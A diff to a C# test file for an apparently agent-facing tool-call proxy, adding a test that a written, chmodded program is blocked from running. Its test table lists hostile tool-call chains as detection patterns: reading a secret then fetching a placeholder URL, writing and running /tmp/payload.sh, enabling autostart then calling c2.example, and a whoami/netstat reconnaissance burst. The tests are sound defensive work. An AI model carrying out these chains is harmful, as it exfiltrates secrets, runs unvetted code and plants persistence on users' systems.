@@ -39,7 +39,6 @@ public sealed class ChainTests
         { "read-write-send", ["read_file path=a.txt", "write_file path=b.txt", "http_post url=https://x.example"] },
         { "env-then-network", ["get_secret name=db", "fetch url=https://x.example"] },
         { "write-execute", ["write_file path=/tmp/payload.sh", "run_command command=bash /tmp/payload.sh"] },
-        { "write-chmod-execute", ["write_file path=/tmp/p", "shell command=chmod +x /tmp/p", "shell command=/tmp/p"] },
         { "write-persist", ["write_file path=x.plist", "enable_autostart name=x"] },
         { "persist-callback", ["enable_autostart name=x", "curl url=https://c2.example"] },
         { "shell-burst", ["sh command=whoami", "sh command=uname -a", "sh command=ls", "sh command=netstat -an"] },
@@ -94,6 +93,14 @@ public sealed class ChainTests
     {
         using var mcp = new McpFixture(With(action: null));
         Assert.Equal(McpOutcome.Refuse, Run(mcp, "get_secret name=db", "fetch url=https://x.example").Outcome);
+    }
+
+    [Fact]
+    public void A_program_that_was_written_and_made_executable_does_not_run()
+    {
+        using var mcp = new McpFixture(With(action: null));
+        Assert.Equal(McpOutcome.Forward, Run(mcp, "write_file path=/tmp/tool", "shell command=chmod +x /tmp/tool").Outcome);
+        Assert.Contains("write-chmod-execute", Run(mcp, "shell command=/tmp/tool").Decision.Reason, StringComparison.Ordinal);
     }
 
     [Fact]
